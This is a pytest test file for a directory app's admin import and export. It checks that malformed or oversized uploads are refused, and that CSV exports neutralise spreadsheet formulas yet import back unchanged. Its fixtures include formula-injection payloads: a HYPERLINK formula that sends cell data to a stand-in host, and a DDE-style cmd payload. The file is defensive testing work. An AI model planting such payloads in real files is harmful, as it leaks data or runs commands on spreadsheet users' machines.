"""Hostile uploads on the admin import page (issue 9) — 400 naming the problem, nothing
written — and CSV exports that no spreadsheet runs as formulas yet import back unchanged."""

import csv
import io
import json

import pytest

from directory.services import accounts, csv_format
from tests.conftest import make_app
from tests.factories import service

from .admin_sample import ADMIN, PASSWORD
from .pages import page_of, sign_in
from .test_admin_transfer import state, upload

IMPORT = "/admin/import"
HEADER = "id,structure_id,nom,description,source,date_maj\r\n"


def csv_row(**cells) -> str:
    values = {
        "id": "nouveau",
        "structure_id": "asso-a",
        "nom": "Un service",
        "description": "Une description assez longue.",
        "source": "tests",
        "date_maj": "2026-03-01",
        **cells,
    }
    return ",".join(values.values()) + "\r\n"


def refused(client, content: bytes, filename: str) -> str:
    response = upload(client, IMPORT, content, filename)
    return page_of(response, 400).text


@pytest.mark.parametrize(
    ("content", "filename", "problem"),
    [
        (b'{"structures": 5}', "a.json", "« structures » : liste d'enregistrements attendue"),
        (b'{"services": null}', "a.json", "« services » : liste d'enregistrements attendue"),
        (b"[" * 100_000 + b"]" * 100_000, "a.json", "imbriqué sur plus de 20 niveaux"),
        (b'[{"latitude": ' + b"9" * 5_000 + b"}]", "a.json", "nombre de plus de 15 chiffres"),
        (
            (HEADER + csv_row(description="x" * 200_000)).encode(),
            "a.csv",
            "Cellule de plus de 20000 caractères",
        ),
        (HEADER.encode() + b'"non ferm\xc3\xa9e,x\r\n', "a.csv", "CSV illisible"),
    ],
    ids=["structures-5", "services-null", "nested", "5000-digits", "cell-200000", "open-quote"],
)
def test_a_hostile_upload_is_refused_with_its_problem(
    directory, signed_in, content, filename, problem
):
    client = signed_in(ADMIN)
    before = state(directory)
    assert problem in refused(client, content, filename)
    assert state(directory) == before


def test_a_csv_cell_past_the_cap_is_named_by_its_line_and_column(directory, signed_in):
    client = signed_in(ADMIN)
    cap = directory.config["CSV_MAX_CELL_CHARS"]
    content = HEADER + csv_row(id="ok", nom="Un nom") + csv_row(description="x" * (cap + 1))
    text = refused(client, content.encode(), "a.csv")
    assert "a.csv#3" in text and "description" in text and f"plus de {cap} caractères" in text
    assert "ok" not in state(directory)["services"]


# Values a spreadsheet would run, or that the CSV must quote: each written to a text field.
TRICKY = {
    "nom": '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")',
    "description": '+ Cours du soir, "débutants"\nDeuxième ligne ; virgule, point-virgule',
    "publics_precisions": "-1+1",
    "conditions_acces": "@SUM(1+1)*cmd|' /C calc'!A0",
    "frais_precisions": "'=déjà une apostrophe",
    "mobilisation_precisions": "'apostrophe sans formule",
    "contact_nom_prenom": "''=deux apostrophes",
    "horaires_accueil": "Mo-Fr 09:00-12:00",
    "telephone": "+33153000000",
    "thematiques": ["lecture-ecriture-calcul--maitriser-le-francais"],
}


def empty_directory(request, tmp_path):
    """Another directory, empty but for its admin account, and a client signed in there."""
    app = make_app(tmp_path / "vide.sqlite3", "embedded", request)
    with app.app_context():
        accounts.create_user(ADMIN, PASSWORD, "admin")
    client = app.test_client()
    assert sign_in(client, ADMIN).status_code == 302
    return client


def test_formula_cells_are_neutralised_and_imported_back_to_the_same_data(
    directory, signed_in, request, tmp_path
):
    """A CSV export imported into an empty directory gives the same services back."""
    client = signed_in(ADMIN)
    tricky = json.dumps({"services": [service("piege", "asso-a", **TRICKY)]})
    assert upload(client, IMPORT, tricky, "a.json").status_code == 302
    exported = client.get("/admin/export.csv").get_data(as_text=True)
    rows = csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))
    cells = next(row for row in rows if row["id"] == "piege")
    for name in ("nom", "description", "publics_precisions", "conditions_acces", "telephone"):
        assert cells[name] == "'" + (TRICKY[name]), name
    assert cells["frais_precisions"] == "''=déjà une apostrophe"
    assert cells["mobilisation_precisions"] == "'apostrophe sans formule"
    assert not any(value.startswith(csv_format.FORMULA_STARTS) for value in cells.values())

    everything = json.loads(client.get("/admin/export.json").data)
    other = empty_directory(request, tmp_path)
    structures = json.dumps({"structures": everything["structures"]})
    assert upload(other, IMPORT, structures, "structures.json").status_code == 302
    assert upload(other, IMPORT, exported, "services.csv").status_code == 302
    assert other.get("/admin/export.csv").get_data(as_text=True) == exported
    assert json.loads(other.get("/admin/export.json").data) == everything


@pytest.mark.parametrize(
    "text",
    ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "'=1", "''+1", "'", "''", "a'=", "'plain", "", "é"],
)
def test_neutralising_is_undone_exactly(text):
    written = csv_format.neutralised(text)
    assert not written.startswith(csv_format.FORMULA_STARTS)
    assert csv_format.restored(written) == text
